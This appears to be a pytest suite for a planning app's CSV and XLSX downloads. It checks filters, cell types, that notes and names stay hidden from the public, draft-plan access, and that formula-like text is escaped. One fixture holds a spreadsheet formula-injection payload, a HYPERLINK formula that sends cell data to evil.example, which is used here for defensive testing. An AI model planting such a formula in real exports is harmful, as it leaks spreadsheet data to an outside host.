"""Downloads of the scorecard, measurements, roadmap, review and activity as CSV and XLSX, over
HTTP: each holds what its page shows, under the page's filters, to the same reader; the public
gets no internal note or name, a draft plan is no one's but its organisation's, and text typed
like a formula arrives as text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any

import openpyxl
import pytest
from sqlmodel import Session, select
from starlette.testclient import TestClient

from app.models import Metric, Plan, Strategy
from app.models.metric import MeasurementIn
from app.models.strategy import ProgressUpdateIn
from app.services.changes import metrics
from app.services.changes.history import Actor
from app.services.changes.strategy_progress import record_strategy_progress
from app.services.exports import org_exports
from app.services.views.activity import ActivityFilters
from tests.factories import (
    TINY_PLAN,
    app_under_test,
    make_person,
    make_tiny_plan,
    signed_in_client,
)

SLUG = "testville-service"
PLAN = f"/plans/{SLUG}"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SECRET_NOTE = "Internal: the vendor miscounted June"
SECRET_NARRATIVE = "Internal narrative: hiring froze"
# A second metric (near term, no target) so that the scorecard's filters have something to keep.
CALLS = """\
  - code: CALLS
    name: Calls answered
    unit: count
    direction: higher
    horizon: near_term
    department: PW
    measurements:
      - {period: 2025-03-01, value: 1200}
quick_wins:"""
# Text a spreadsheet would run as a formula, as people might type it.
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'
FORMULA_PLAN = (
    TINY_PLAN.replace("title: Fix potholes faster", "title: '" + HYPERLINK.replace("'", "''") + "'")
    .replace("name: First call resolution", "name: '-1+2'")
    .replace("title: Tools", "title: '@SUM(A1:A9)'")
)


def as_csv(answer: Any) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))


def as_xlsx(answer: Any) -> openpyxl.Workbook:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == XLSX
    return openpyxl.load_workbook(io.BytesIO(answer.content))


def records(answer: Any) -> list[dict[str, str]]:
    """A CSV download as one dict per row, by column title."""
    header, *rows = as_csv(answer)
    return [dict(zip(header, row, strict=True)) for row in rows]


def sheet_records(answer: Any, sheet: str | None = None) -> list[dict[str, Any]]:
    book = as_xlsx(answer)
    ws = book[sheet] if sheet else book.worksheets[0]
    header, *rows = ws.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def all_text(answer: Any, fmt: str) -> str:
    if fmt == "csv":
        return answer.content.decode("utf-8-sig")
    book = as_xlsx(answer)
    return "\n".join(
        str(v) for ws in book.worksheets for row in ws.iter_rows(values_only=True) for v in row
    )


@pytest.fixture
def tiny(session: Session) -> Plan:
    return make_tiny_plan(session, TINY_PLAN.replace("quick_wins:", CALLS, 1))


@pytest.fixture
def coordinator(session: Session, tiny: Plan) -> TestClient:
    return signed_in_client(session, make_person(session, "tv-coord", "coordinator"))[0]


@pytest.fixture
def internal(session: Session, tiny: Plan) -> None:
    """A measurement with a note entered by a named lead, and a strategy's narrative."""
    lead = make_person(session, "cc-lead", "lead", department="CC")
    fcr = session.exec(select(Metric).where(Metric.code == "FCR")).one()
    metrics.record_measurement(
        session=session,
        metric=fcr,
        actor=Actor(user=lead),
        data=MeasurementIn(period=dt.date(2025, 7, 1), value=86, note=SECRET_NOTE),
    )
    strategy = session.exec(select(Strategy).where(Strategy.code == "1.1")).one()
    record_strategy_progress(
        session=session,
        strategy=strategy,
        data=ProgressUpdateIn(
            version=strategy.version, status="on_track", narrative=SECRET_NARRATIVE
        ),
        actor=Actor(user=lead),
    )
    session.commit()


class TestScorecard:
    def test_a_row_per_metric_with_latest_value_target_status_and_reason(
        self, coordinator: TestClient
    ) -> None:
        rows = {r["Code"]: r for r in records(coordinator.get(f"{PLAN}/scorecard.csv"))}
        assert list(rows) == ["FCR", "CALLS"]
        fcr = rows["FCR"]
        assert fcr["Metric"] == "First call resolution"
        assert fcr["Department"] == "Contact Centre"
        assert fcr["Measures"] == "Standard 1: Timely"
        assert (fcr["Latest period"], fcr["Latest value"]) == ("2025-06-01", "83")
        assert (fcr["Target"], fcr["Target value"]) == ("85% or higher", "85")
        assert fcr["Status"] == "At risk"
        # The reason the page gives beside the status.
        page = coordinator.get(f"{PLAN}/scorecard").text
        assert fcr["Reason"].startswith("83% against a target of at least 85%")
        assert fcr["Reason"].replace("%", "") in re.sub(r"<[^>]+>", "", page).replace("%", "")
        assert rows["CALLS"]["Status"] == "No target" and rows["CALLS"]["Horizon"] == "Near-term"

    def test_xlsx_cells_are_typed(self, coordinator: TestClient) -> None:
        answer = coordinator.get(f"{PLAN}/scorecard.xlsx")
        ws = as_xlsx(answer)["Scorecard"]
        assert ws.freeze_panes == "A2"
        header = [c.value for c in ws[1]]
        assert header[:3] == ["Code", "Metric", "Department"] and all(c.font.bold for c in ws[1])
        assert all(ws.column_dimensions[c].width for c in "ABCDEFGHIJKLMNO")
        fcr = dict(zip(header, ws[2], strict=True))
        assert fcr["Latest period"].is_date
        assert fcr["Latest period"].value == dt.datetime(2025, 6, 1)
        assert fcr["Latest value"].data_type == "n" and fcr["Latest value"].value == 83
        assert fcr["Target value"].value == 85
        assert fcr["Status"].data_type == "s" and fcr["Status"].value == "At risk"

    @pytest.mark.parametrize(
        ("query", "codes"),
        [
            ("status=no_target", ["CALLS"]),
            ("horizon=near_term", ["CALLS"]),
            ("status=", ["FCR", "CALLS"]),
        ],
    )
    def test_the_pages_filters(self, coordinator: TestClient, query: str, codes: list[str]) -> None:
        for fmt in ("csv", "xlsx"):
            answer = coordinator.get(f"{PLAN}/scorecard.{fmt}?{query}")
            got = records(answer) if fmt == "csv" else sheet_records(answer)
            assert [r["Code"] for r in got] == codes

    def test_the_page_links_its_downloads_with_its_filters(self, coordinator: TestClient) -> None:
        html = coordinator.get(f"{PLAN}/scorecard?status=no_target&horizon=near_term").text
        for what in ("scorecard", "measurements"):
            for fmt in ("csv", "xlsx"):
                assert f'href="{PLAN}/{what}.{fmt}?horizon=near_term&amp;status=no_target"' in html
        assert 'class="downloads"' in html

    def test_content_disposition_names_plan_and_day(self, coordinator: TestClient) -> None:
        today = dt.datetime.now(dt.UTC).date().isoformat()
        answer = coordinator.get(f"{PLAN}/scorecard.xlsx?status=at_risk")
        assert answer.headers["content-disposition"] == (
            f'attachment; filename="{SLUG}-scorecard-at_risk-{today}.xlsx"'
        )


class TestMeasurements:
    def test_long_format_with_the_target_in_force_for_each_period(
        self, session: Session, internal: None
    ) -> None:
        viewer = make_person(session, "tv-viewer", "viewer")
        client = signed_in_client(session, viewer)[0]
        rows = records(client.get(f"{PLAN}/measurements.csv?status=on_track"))
        assert [(r["Metric code"], r["Period"], r["Value"]) for r in rows] == [
            ("FCR", "2024-06-01", "78"),
            ("FCR", "2025-06-01", "83"),
            ("FCR", "2025-07-01", "86"),
        ]
        # The target steps: 80% until 2025, 85% from then; each value judged against its own.
        assert [r["Target in force"] for r in rows] == ["80% or higher", *["85% or higher"] * 2]
        assert [r["Status"] for r in rows] == ["At risk", "At risk", "On track"]
        assert rows[0]["Period label"] == "June 2024"
        # Staff of the plan's organisation read who entered a value and its note.
        assert (rows[2]["Note"], rows[2]["Entered by"]) == (SECRET_NOTE, "Cc Lead")

        sheet = as_xlsx(client.get(f"{PLAN}/measurements.xlsx"))["Measurements"]
        header = [c.value for c in sheet[1]]
        first = dict(zip(header, sheet[2], strict=True))
        assert first["Period"].is_date and first["Value"].data_type == "n"
        assert first["Target value"].value == 80

    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_the_public_gets_no_note_no_name_no_narrative(
        self, session: Session, internal: None, fmt: str
    ) -> None:
        public = TestClient(app_under_test())
        for what in ("scorecard", "measurements", "roadmap"):
            answer = public.get(f"{PLAN}/{what}.{fmt}")
            text = all_text(answer, fmt)
            for secret in (SECRET_NOTE, SECRET_NARRATIVE, "Cc Lead", "cc-lead"):
                assert secret not in text, (what, secret)
        # The values and their statuses are public, as on the page; the internal columns are not.
        answer = public.get(f"{PLAN}/measurements.{fmt}")
        rows = records(answer) if fmt == "csv" else sheet_records(answer)
        assert "Note" not in rows[0] and "Entered by" not in rows[0]
        assert [float(r["Value"]) for r in rows if r["Metric code"] == "FCR"] == [78, 83, 86]


class TestRoadmap:
    def test_every_strategy_in_the_pages_order(self, coordinator: TestClient) -> None:
        rows = records(coordinator.get(f"{PLAN}/roadmap.csv"))
        assert [r["Code"] for r in rows] == ["1.1", "1.2"]
        first = rows[0]
        assert first["Recommendation"] == "Answer in language"  # the plan's own word
        assert first["Group"] == "Focus area 1: Access"
        assert (first["Planned start"], first["Planned end"]) == ("2024-01-01", "2024-12-31")
        assert first["Planned quarters"] == "2024 Q1 – 2024 Q4"
        assert first["Status"] == "Overdue" and first["Department"] == "Contact Centre"
        assert rows[1]["Group"] == "Long term (no planned quarters)"

        ws = as_xlsx(coordinator.get(f"{PLAN}/roadmap.xlsx"))["Roadmap"]
        header = [c.value for c in ws[1]]
        cells = dict(zip(header, ws[2], strict=True))
        assert cells["Planned start"].is_date and cells["Progress (%)"].data_type == "n"

    def test_the_pages_filters(self, coordinator: TestClient) -> None:
        rows = records(coordinator.get(f"{PLAN}/roadmap.csv?department=PW"))
        assert [r["Code"] for r in rows] == ["1.2"]
        rows = records(coordinator.get(f"{PLAN}/roadmap.csv?term=short&group=phase"))
        assert [(r["Code"], r["Group"]) for r in rows] == [("1.1", "Phase 1: Phase 1")]
        html = coordinator.get(f"{PLAN}/roadmap?department=PW&group=phase").text
        assert f'href="{PLAN}/roadmap.csv?group=phase&amp;department=PW"' in html


class TestReview:
    def test_a_row_per_focus_area_and_the_filters(self, coordinator: TestClient) -> None:
        rows = records(coordinator.get("/review.csv"))
        assert [(r["Code"], r["Focus area"]) for r in rows] == [("1", "Access"), ("2", "Tools")]
        access = rows[0]
        assert access["Status"] == "Overdue" and access["Strategies"] == "2"
        assert (access["Overdue"], access["Not started"]) == ("1", "1")
        rows = records(coordinator.get("/review.csv?status=overdue"))
        assert [r["Code"] for r in rows] == ["1"]
        book = as_xlsx(coordinator.get("/review.xlsx?department=PW"))
        assert book.sheetnames == ["Focus areas", "Metrics in no focus area", "Quick wins changed"]
        ws = book["Focus areas"]
        assert [c.value for c in ws["C"][1:]] == ["1"]
        assert ws.freeze_panes == "A2" and ws["G2"].data_type == "n"
        html = coordinator.get("/review?status=overdue").text
        assert 'href="/review.xlsx?status=overdue&amp;since=' in html

    def test_only_for_reviewers(self, session: Session, tiny: Plan) -> None:
        viewer = signed_in_client(session, make_person(session, "tv-viewer", "viewer"))[0]
        assert viewer.get("/review.csv").status_code == 403
        answer = TestClient(viewer.app).get("/review.xlsx", follow_redirects=False)
        assert answer.status_code == 303 and answer.headers["location"].startswith("/login")


class TestActivity:
    def test_every_change_one_row_per_field_and_the_filters(
        self, coordinator: TestClient, internal: None
    ) -> None:
        rows = records(coordinator.get("/activity.csv?kind=strategy"))
        assert {r["Kind"] for r in rows} == {"Strategy"}
        fields = {r["Field"]: r for r in rows}
        assert fields["Status"]["Before"] == "Not started"
        assert fields["Status"]["After"] == "On track"
        assert fields["Narrative"]["After"] == SECRET_NARRATIVE  # staff read the history
        assert all(r["Person"] == "Cc Lead" for r in rows)
        everything = records(coordinator.get("/activity.csv"))
        assert {"Plan", "Measurement", "Strategy"} <= {r["Kind"] for r in everything}
        ws = as_xlsx(coordinator.get("/activity.xlsx?kind=strategy"))["Activity"]
        assert ws["A2"].is_date and ws["B2"].value == "Cc Lead"
        html = coordinator.get("/activity?kind=strategy").text
        assert 'href="/activity.csv?kind=strategy"' in html

    def test_every_page_from_the_first_up_to_the_limit(
        self, session: Session, internal: None, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        coordinator = make_person(session, "tv-reader", "coordinator")

        def entry_ids() -> list[int]:
            feed = org_exports.load_whole_feed(
                session=session, user=coordinator, filters=ActivityFilters(page=3)
            )
            return [item.entry.id for item in feed.entries]  # type: ignore[misc]

        whole = entry_ids()
        # The import, the measurement, the progress update: from the first, whatever page the
        # page was on.
        assert len(whole) == 3
        assert whole == sorted(whole, reverse=True)
        monkeypatch.setattr(org_exports, "MAX_ENTRIES", 2)
        assert entry_ids() == whole[:2]  # the newest

    def test_signed_in_only(self, tiny: Plan) -> None:
        answer = TestClient(app_under_test()).get("/activity.csv", follow_redirects=False)
        assert answer.status_code == 303 and answer.headers["location"].startswith("/login")


@pytest.mark.parametrize("what", ["scorecard", "measurements", "roadmap"])
def test_a_draft_plan_is_not_found_for_outsiders(session: Session, what: str) -> None:
    make_tiny_plan(session, TINY_PLAN.replace("published: true", "published: false"))
    for fmt in ("csv", "xlsx"):
        assert TestClient(app_under_test()).get(f"{PLAN}/{what}.{fmt}").status_code == 404
    staff = signed_in_client(session, make_person(session, "tv-staff", "viewer"))[0]
    assert staff.get(f"{PLAN}/{what}.csv").status_code == 200


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_text_typed_like_a_formula_is_text(session: Session, fmt: str) -> None:
    make_tiny_plan(session, FORMULA_PLAN)
    client = signed_in_client(session, make_person(session, "tv-coord", "coordinator"))[0]
    typed = {
        f"{PLAN}/roadmap": ("Recommendation", HYPERLINK),
        f"{PLAN}/scorecard": ("Metric", "-1+2"),
        f"{PLAN}/measurements": ("Metric", "-1+2"),
        "/review": ("Focus area", "@SUM(A1:A9)"),
    }
    for path, (column, text) in typed.items():
        answer = client.get(f"{path}.{fmt}")
        if fmt == "csv":
            assert "'" + text in [r[column] for r in records(answer)], path
            continue
        ws = as_xlsx(answer).worksheets[0]
        header = [c.value for c in ws[1]]
        cells = [row[header.index(column)] for row in ws.iter_rows(min_row=2)]
        found = [c for c in cells if c.value == text]
        assert found and all(c.data_type == "s" for c in found), path
        # Numbers next to it are still numbers (the guard is for text).
        if path.endswith("measurements"):
            values = [row[header.index("Value")] for row in ws.iter_rows(min_row=2)]
            assert all(v.data_type == "n" for v in values)
